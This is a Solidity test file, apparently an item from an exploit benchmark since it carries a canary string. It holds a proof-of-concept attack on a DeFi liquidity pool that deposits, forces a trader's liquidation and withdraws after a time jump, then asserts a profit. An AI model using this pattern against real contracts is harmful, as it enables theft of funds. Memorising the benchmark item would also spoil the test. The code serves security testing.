// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.8.30;

// assay-canary-09f07437-5525-4eb7-a57e-ba8be1652998
import "../Base.sol";

contract Attacker {
    function enter(IERC20 usd, ILiquidityPool pool, ILiquidator liquidator, address trader) external {
        usd.approve(address(pool), type(uint256).max);
        uint256 shares = pool.deposit(1_000_000e6, 1, address(this));
        liquidator.liquidate(trader, "TIN", true);
        pool.request(shares, 0);
    }

    function leave(ILiquidityPool pool) external {
        pool.process(2);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 1_000_000e6);
    }

    function exploit() public {
        other.enter(usd, pool, liquidator, DEE);
        vm.warp(block.timestamp + 1 days);
        other.leave(pool);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 1_015_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
